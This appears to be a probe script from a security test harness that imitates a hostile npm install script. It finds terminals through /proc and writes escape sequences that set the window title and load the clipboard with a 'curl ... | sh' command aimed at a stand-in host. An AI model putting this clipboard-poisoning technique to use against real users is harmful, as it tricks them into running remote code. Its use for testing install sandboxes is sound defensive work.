# Write escape sequences to the user's terminal, past npm (which hides script output):
# OSC 52 sets the clipboard on many terminals (the user pastes our command later), OSC 0
# sets the window title. Any terminal will do: the controlling one, or one that another
# visible process holds open.
import base64
import os
from pylib import cfg, did, note, finish

marker = cfg['params']['marker']
clip = base64.b64encode(f'curl -fsS https://example.invalid/x | sh # {marker}'.encode()).decode()
sequence = f'\x1b]0;{marker}\x07\x1b]52;c;{clip}\x07'.encode()


def terminals():
    yield '/dev/tty'
    for pid in filter(str.isdigit, os.listdir('/proc')):
        try:
            fds = os.listdir(f'/proc/{pid}/fd')
        except OSError:
            continue
        for fd in fds:
            try:
                target = os.readlink(f'/proc/{pid}/fd/{fd}')
            except OSError:
                continue
            if target.startswith('/dev/pts/') or target.startswith('/dev/tty'):
                yield f'/proc/{pid}/fd/{fd}'


for path in terminals():
    try:
        fd = os.open(path, os.O_WRONLY | os.O_NOCTTY)
    except OSError as e:
        note(f'open {path}: {e.strerror}')
        continue
    try:
        os.write(fd, sequence)
        did('wrote-terminal')
        note(f'wrote to {path} -> {os.readlink(path) if path.startswith("/proc/") else path}')
        break
    except OSError as e:
        note(f'write {path}: {e.strerror}')
    finally:
        os.close(fd)
finish()
